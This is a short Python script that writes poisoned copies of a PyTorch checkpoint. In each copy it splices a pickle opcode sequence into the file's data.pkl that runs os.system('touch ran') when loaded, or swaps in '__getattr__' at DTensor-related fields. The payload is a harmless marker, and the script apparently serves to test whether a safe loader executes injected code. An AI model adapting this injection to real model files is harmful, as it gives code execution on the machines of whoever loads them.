# SPDX-License-Identifier: Apache-2.0
"""poison.py FILE OUT: copies of a file of torch.save in which a class or function of its pickle became the result of
os.system('touch ran'), OUT/1.pt and so on, one for each place; prints how many. With getattr's arguments changed where it is called."""
import pathlib
import pickletools
import sys
import zipfile

CALL = b"cposix\nsystem\nX\x09\x00\x00\x00touch ran\x85R"


def poisoned(pickle):
    """Pickles with one opcode replaced; memos are by number, so the rest stays what it was."""
    ops = list(pickletools.genops(pickle))
    for (op, argument, at), (_, _, end) in zip(ops, ops[1:]):
        if op.name == "GLOBAL":
            yield pickle[:at] + CALL + pickle[end:]
        elif op.name == "BINUNICODE" and argument == "ProcessGroupState":
            yield pickle[:at] + b"X\x0b\x00\x00\x00__getattr__" + pickle[end:]
            yield pickle[:at] + b"X\x11\x00\x00\x00ProcessGroupStatx" + pickle[end:]
        elif op.name == "BINUNICODE" and argument in ("_spec", "mesh", "placements", "_local_tensor", "_layout", "tensor_meta"):
            yield pickle[:at] + CALL + pickle[end:]


def main(source, out):
    out = pathlib.Path(out)
    out.mkdir()
    with zipfile.ZipFile(source) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    name = next(name for name in members if name.endswith("/data.pkl"))
    count = 0
    for pickle in poisoned(members[name]):
        count += 1
        with zipfile.ZipFile(out / f"{count}.pt", "w") as archive:
            for member, data in (members | {name: pickle}).items():
                archive.writestr(member, data)
    print(count)


main(*sys.argv[1:])
